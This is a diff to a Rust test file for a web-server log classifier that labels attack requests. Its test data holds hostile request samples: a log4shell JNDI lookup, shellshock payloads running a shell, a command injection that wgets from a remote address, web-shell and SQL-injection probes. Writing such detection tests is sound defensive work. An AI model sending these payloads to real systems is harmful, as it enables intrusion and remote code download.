@@ -40,7 +40,10 @@ fn attacks_are_told_by_their_form() {
         ("GET / HTTP/1.1", "${jndi:ldap://192.0.2.1/a}", "log4shell"),
         ("GET /p?id=1%27%20UNION%20SELECT%201,2 HTTP/1.1", "-", "sql-injection"),
         ("GET /p?id=1+union+all+select+1 HTTP/1.1", "-", "sql-injection"),
-        ("GET / HTTP/1.1", "() { :;}; /bin/ping", "command-injection"),
+        ("GET / HTTP/1.1", "() { :;}; /bin/ping", "shellshock"),
+        ("GET / HTTP/1.1", "() { :; }; /bin/bash -c \"id\"", "shellshock"),
+        ("GET /p?x=;wget%20http://192.0.2.1/x HTTP/1.1", "-", "command-injection"),
+        ("GET /shell.php?cmd=id HTTP/1.1", "-", "command-parameter"),
         ("GET /p?page=php://filter/x HTTP/1.1", "-", "file-inclusion"),
         ("GET /?q=<script>alert(1)</script> HTTP/1.1", "-", "scripts"),
         ("GET /.env HTTP/1.1", "-", "secret-files"),
@@ -66,6 +69,8 @@ fn what_visitors_ask_for_is_not() {
         "GET /go?to=https://example.org/ HTTP/1.1",
         "GET /wp-content/uploads/2024/01/a.jpg HTTP/1.1",
         "POST /wp-login.php HTTP/1.1",
+        "GET /robots.txt HTTP/1.1",
+        "GET /ads.txt HTTP/1.1",
         "GET /images/../logo.png HTTP/2.0",
     ] {
         assert_eq!(told(&[request(line, 200, "Mozilla/5.0", NOON)]), [""; 0], "{line}");
